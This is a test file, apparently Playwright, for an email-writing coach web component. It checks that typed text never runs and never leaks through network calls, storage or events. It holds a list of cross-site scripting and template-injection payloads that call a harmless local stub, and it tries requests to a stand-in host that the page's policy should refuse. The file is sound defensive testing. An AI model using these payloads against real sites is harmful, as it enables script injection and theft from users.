// What is typed stays where it is typed: none of it runs, and none of it turns up anywhere else.
import { test, expect, hostPage, openCoach, Coach, DRAFT, MODULE } from './coach.mjs';

/** Each would call `ran()` if anything took it for more than text. */
const PAYLOADS = [
  '<script>ran()</script>', '<img src=x onerror=ran()>', '<svg onload=ran()>', '<svg><script href=data:,ran()></script></svg>', '<iframe srcdoc="<script>parent.ran()</script>">',
  '"><img src=x onerror=ran()>', "' onfocus=ran() autofocus x='", '</textarea><img src=x onerror=ran()>', '</style><script>ran()</script>', '--><script>ran()</script>',
  'javascript:ran()', '<a href="javascript:ran()">x</a>', '<math><mi xlink:href="javascript:ran()">x</mi></math>', '<details open ontoggle=ran()>', '<style>@import "data:,ran()"</style>',
  '{{constructor.constructor("ran()")()}}', '${ran()}', '#{ran()}', '<%= ran() %>', '[[ran()]]', '`${ran()}`', '=ran()', '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '\u202e<img src=x onerror=ran()>\u202c', '＜script＞ran()＜/script＞', '<scr\u0000ipt>ran()</scr\u0000ipt>', 'class=card|data-do=fix:0>ran()', 'again:0\topen:0', '{0} {1}', '&lt;img src=x onerror=ran()&gt;',
  '<form action="javascript:ran()"><button>x</button></form>', '<base href="https://elsewhere.example/">', '<meta http-equiv="refresh" content="0;url=javascript:ran()">', '__proto__', 'constructor',
];

const guard = (page) => page.addInitScript(() => {
  window.hasRun = [];
  window.ran = () => window.hasRun.push(new Error().stack);
  window.alert = window.ran;
});

/** Nothing has run, and no element stands in the coach that its own views do not make. */
async function harmless(page, coach) {
  expect(await page.evaluate(() => window.hasRun)).toEqual([]);
  const odd = await coach.host.evaluate((el) => [...el.shadowRoot.querySelectorAll('*')].filter((node) => /^(script|iframe|img|style|object|embed|base|meta|form|link|math|video|audio)$/i.test(node.localName)
    || [...node.attributes].some(({ name, value }) => /^on|^srcdoc$/.test(name) || (/^(href|src|action)$/.test(name) && !/^https:\/\//.test(value)))).map((node) => node.outerHTML));
  expect(odd).toEqual([]);
}

test('no text is taken for anything but text, in any field', async ({ page }) => {
  await guard(page);
  const coach = await openCoach(page);
  for (const text of PAYLOADS) {
    const line = text.replaceAll('\u0000', '');
    const body = `Hi Amara, ${text} in order to know: which interval did you settle on?`;
    await coach.setDraft({ subject: text, body, recipient: { firstName: text, lastName: text, company: text, role: text, facts: [line] }, sender: { firstName: text }, holidays: ['2027-01-01', text] });
    await expect(coach.message).toHaveValue(body);
    for (const name of ['First name', 'Last name', 'Company', 'Role']) await expect(coach.recipient(name)).toHaveValue(text);
    await expect(coach.recipient('Facts')).toHaveValue(line.trim());
    await expect(coach.host.getByText(`Drop: ${line}`)).toHaveCount(0); // it is a name, and no text
    // Its card, put aside, and the other version.
    await coach.host.evaluate(({ shadowRoot: root }) => {
      const many = root.querySelectorAll('[data-do^="open:"]').length;
      for (let i = 0; i < many; i += 1) root.querySelector(`[data-do="open:${i}"]`).click();
    });
    await harmless(page, coach);
  }
  await coach.host.evaluate((el) => {
    const { shadowRoot: root } = el;
    [...root.querySelectorAll('button')].find((one) => one.textContent === 'Keep this version').click();
    root.querySelector('[data-do=safe]').click();
    root.querySelector('[data-do^=open]')?.click();
    root.querySelector('[data-do=ignore]')?.click();
  });
  await harmless(page, coach);
});

test('nor what a host gives, what was kept, nor what a calendar says', async ({ page }) => {
  await guard(page);
  await page.addInitScript((texts) => {
    localStorage.setItem('inmail-coach:coach', JSON.stringify({ subject: texts.join(' '), body: texts.join('\n'), recipient: { facts: texts }, holidays: texts, other: { subject: texts[0], body: texts[1] } }));
  }, PAYLOADS);
  const attribute = (text) => text.replace(/[&"<>]/g, (c) => `&#${c.codePointAt(0)};`).replaceAll('\u0000', '');
  await hostPage(page, `<inmail-coach id="coach" keep="local"></inmail-coach>${PAYLOADS.map((text) => `<inmail-coach for="${attribute(text)}" intent="${attribute(text)}"
    name="${attribute(text)}" theme="${attribute(text)}" layout="${attribute(text)}"></inmail-coach>`).join('')}${MODULE}`);
  const coach = new Coach(page);
  await coach.ready();
  await expect(coach.message).toHaveValue(PAYLOADS.join('\n'));
  await expect(coach.button('Show the other')).toBeVisible();
  await coach.button('Show the other').click();
  await expect(coach.message).toHaveValue(PAYLOADS[1]);
  await coach.host.evaluate((el, texts) => {
    el.options = { off: texts, ignore: texts.map((text) => ({ rule: text, text, before: text, after: text })), weights: Object.fromEntries(texts.map((text) => [text, 1])),
      phrases: texts.map((text) => ({ phrase: text, message: text, replacement: text, category: 'clarity' })) };
  }, PAYLOADS);
  await coach.setDraft({ subject: PAYLOADS.join(' '), body: PAYLOADS.join('\n'), recipient: DRAFT.recipient });
  await coach.agrees();
  await coach.host.getByText('Holidays there', { exact: true }).first().click();
  await coach.host.getByLabel('Add an .ics file').setInputFiles({
    name: '<img src=x onerror=ran()>.ics', mimeType: 'text/calendar',
    buffer: Buffer.from(PAYLOADS.map((text) => `BEGIN:VEVENT\r\nSUMMARY:${text}\r\nDTSTART;X=${text}:20270315\r\nDTEND:${text}\r\nEND:VEVENT`).join('\r\n')),
  });
  await expect.poll(async () => (await coach.draft()).holidays).toContain('2027-03-15');
  for (const finding of (await coach.report()).findings.slice(0, 5)) {
    await coach.suggestion(finding).click();
    await page.keyboard.press('Escape');
  }
  await harmless(page, coach);
});

const CANARY = 'zqxcanaryvw';
/** Events that may carry what was typed: those of the contract. */
const TOLD = ['coach-report', 'coach-fix'];

test('what is typed turns up nowhere else', async ({ page, context, baseURL }) => {
  const heard = [];
  const hear = (where, text) => { if (String(text).toLowerCase().includes(CANARY)) heard.push(`${where}: ${String(text).slice(0, 200)}`); };
  page.on('console', (message) => hear('console', message.text()));
  context.on('request', (request) => hear('request', `${request.url()} ${request.postData()} ${JSON.stringify(request.headers())}`));
  await page.addInitScript(() => {
    window.sent = [];
    const note = (where, what) => window.sent.push([where, typeof what === 'string' ? what : JSON.stringify(what)]);
    const patch = (owner, name, what = (...given) => given) => {
      const own = owner?.[name];
      if (own) owner[name] = function patched(...given) { note(name, what(...given)); return own.apply(this, given); };
    };
    patch(EventTarget.prototype, 'dispatchEvent', (event) => `${event.type} ${JSON.stringify(event.detail ?? null)}`);
    for (const [owner, names] of [[history, ['pushState', 'replaceState']], [window, ['postMessage', 'fetch', 'open']], [navigator, ['sendBeacon']], [BroadcastChannel.prototype, ['postMessage']],
      [MessagePort.prototype, ['postMessage']], [Storage.prototype, ['setItem']], [IDBObjectStore.prototype, ['put', 'add']], [Cache.prototype, ['put']], [performance, ['mark', 'measure']],
      [console, ['log', 'info', 'warn', 'error', 'debug']]]) for (const name of names) patch(owner, name);
    addEventListener('error', (event) => note('error', event.message));
  });
  await page.goto('/');
  const coach = new Coach(page);
  await coach.ready();
  const text = `${CANARY} in order to ${CANARY}. `;
  await coach.subject.fill(text);
  await coach.message.pressSequentially(`Hi ${CANARY}, ${text}Which ${CANARY}?`);
  for (const name of ['First name', 'Last name', 'Company', 'Role', 'Facts']) await coach.recipient(name).fill(`${CANARY} ${name}`);
  await coach.host.getByText('Holidays there', { exact: true }).first().click();
  await coach.host.getByLabel('Holidays there').fill(CANARY);
  await coach.applySafe.click();
  const [first] = (await coach.report()).findings;
  await coach.suggestion(first).click();
  await coach.inCard('Ignore here').click();
  await coach.button('Undo').click();
  // What is refused is not repeated.
  await coach.host.evaluate((el, text) => {
    for (const draft of [{ body: 5, subject: text }, { body: text, intent: 'spam' }, { body: text, recipient: text }, { body: text, recipient: { facts: text } }]) el.draft = draft;
    for (const options of [{ off: text }, { weights: { a: text } }, { phrases: [text] }, { phrases: [{ phrase: text, category: 'x' }] }]) el.options = options;
  }, CANARY);
  await expect(coach.message).toHaveValue(new RegExp(CANARY));
  await page.waitForTimeout(300);
  const left = await page.evaluate(async () => ({
    sent: window.sent, title: document.title, url: location.href, name: window.name, cookie: document.cookie, history: history.state, selection: document.referrer,
    local: { ...localStorage }, session: { ...sessionStorage }, caches: await caches.keys(), databases: await indexedDB.databases(), entries: performance.getEntries().map((entry) => JSON.stringify(entry)),
    attributes: [...document.querySelectorAll('*')].flatMap((one) => [...one.attributes]).map(({ value }) => value),
  }));
  for (const [where, what] of left.sent) if (!TOLD.some((type) => where === 'dispatchEvent' && what.startsWith(`${type} `))) hear(where, what);
  const { sent, ...rest } = left;
  for (const [where, what] of Object.entries(rest)) hear(where, JSON.stringify(what));
  expect(heard).toEqual([]);
  expect(sent.filter(([where, what]) => where === 'dispatchEvent' && what.includes(CANARY)).length, 'the test can hear').toBeGreaterThan(10);
  expect(new URL(left.url).origin).toBe(new URL(baseURL).origin);
});

test.describe('by hand', () => {
  // The page tries; its policy refuses before anything is sent.
  test.use({ asks: /^(https|wss):\/\/elsewhere\.example\// });

  test('the guide’s checks, as anybody can make them', async ({ page, context }) => {
    await page.goto('/');
    const coach = new Coach(page);
    await coach.ready();
    // 2 and 3: the count that the page keeps, and what its policy refuses.
    await expect(page.getByText('0 requests since this page was ready')).toBeVisible();
    const refused = await page.evaluate(async () => {
      const tries = {
        fetch: () => fetch('https://elsewhere.example/?text'),
        image: () => new Promise((done, fail) => { Object.assign(new Image(), { onload: done, onerror: fail, src: 'https://elsewhere.example/?text' }); }),
        socket: () => new Promise((done, fail) => { Object.assign(new WebSocket('wss://elsewhere.example/'), { onopen: done, onerror: fail }); }),
        script: () => { const tag = document.createElement('script'); tag.textContent = 'window.bad = 1'; document.body.append(tag); return window.bad; },
        markup: () => { document.createElement('p').innerHTML = '<b>x</b>'; },
        code: () => eval('1'), // eslint-disable-line no-eval
      };
      const found = [];
      for (const [name, go] of Object.entries(tries)) await Promise.resolve().then(go).catch(() => found.push(name));
      return found;
    });
    expect(refused).toEqual(['fetch', 'image', 'socket', 'script', 'markup', 'code']);
    // 1: without a network.
    await context.setOffline(true);
    await coach.message.fill('Hi Amara, which interval did you settle on in order to catch the peak?');
    await coach.found('wordy-phrase');
    await coach.applySafe.click();
    await coach.found('wordy-phrase', 0);
    // 4: what is kept.
    expect(await context.cookies()).toEqual([]);
    expect(await page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 0]);
  });
});
